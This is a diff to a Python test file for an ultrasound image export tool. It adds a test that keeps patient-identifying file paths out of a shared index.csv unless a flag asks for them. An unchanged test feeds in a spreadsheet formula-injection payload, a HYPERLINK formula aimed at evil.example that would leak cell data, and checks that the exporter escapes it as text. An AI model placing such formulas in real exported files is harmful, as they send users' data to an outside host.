@@ -99,7 +99,7 @@ def test_the_export_is_a_busi_folder_the_models_read(saved, tmp_path):
 
 def test_the_index_says_where_each_image_came_from(saved, tmp_path):
     out = tmp_path / "out"
-    export_busi(saved["data"], saved["worklist"], out)
+    export_busi(saved["data"], saved["worklist"], out, with_paths=True)
     with open(out / "index.csv", newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
     assert tuple(rows[0]) == INDEX_COLUMNS
@@ -112,6 +112,23 @@ def test_the_index_says_where_each_image_came_from(saved, tmp_path):
     assert rows[2]["sha256"] == saved["sha"]["a"]
     assert rows[2]["saved_at"] == "2026-12-02T09:00:00Z"
     assert rows[2]["annotator"] == "Dr Ada"
+
+
+def test_worklist_paths_are_left_out_unless_asked_for(saved, tmp_path, capsys, monkeypatch):
+    # File names often carry the patient's name; a data set made to be shared must not.
+    (saved["worklist"] / "study1" / "b.png").rename(saved["worklist"] / "DOE_JANE_b.png")
+    record_path = saved["data"] / saved["sha"]["b"] / "v001.json"
+    record_path.write_text(record_path.read_text().replace("study1/b.png", "DOE_JANE_b.png"))
+    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
+    assert report.exported == {"normal": 1, "benign": 1, "malignant": 1}
+    written = (tmp_path / "out" / "index.csv").read_text(encoding="utf-8")
+    assert "DOE_JANE" not in written and "study" not in written
+    with open(tmp_path / "out" / "index.csv", newline="", encoding="utf-8") as handle:
+        assert {row["worklist_path"] for row in csv.DictReader(handle)} == {""}
+    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
+    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
+    assert main(["--out", str(tmp_path / "kept"), "--with-paths"]) == 0
+    assert "DOE_JANE_b.png" in (tmp_path / "kept" / "index.csv").read_text(encoding="utf-8")
 
 
 def test_an_image_changed_or_gone_since_it_was_saved_is_skipped(saved, tmp_path):
@@ -272,7 +289,7 @@ def test_a_name_a_spreadsheet_would_run_is_written_as_text(saved, tmp_path):
     _save(store, data, label="benign", mask=saved["lesion"], worklist_path="d.png",
           annotator='=HYPERLINK("http://evil.example/?"&A2,"open")', day=3)
     out = tmp_path / "out"
-    export_busi(saved["data"], worklist, out)
+    export_busi(saved["data"], worklist, out, with_paths=True)
     with open(out / "index.csv", newline="", encoding="utf-8") as handle:
         rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
     assert rows["d.png"]["annotator"] == '\'=HYPERLINK("http://evil.example/?"&A2,"open")'
@@ -288,7 +305,7 @@ def test_the_index_gives_each_images_bi_rads_reading_and_no_note(saved, tmp_path
                        "margin": ["microlobulated", "angular"]},
           note="Jane Doe, 1961: compare with the 2023 study.")  # fmt: skip
     out = tmp_path / "out"
-    assert export_busi(saved["data"], worklist, out).total == 3
+    assert export_busi(saved["data"], worklist, out, with_paths=True).total == 3
     # The BI-RADS columns come after the others, which keep their places.
     assert INDEX_COLUMNS == (
         "class", "name", "duplicate_group", "masks", "sha256", "version", "annotator",
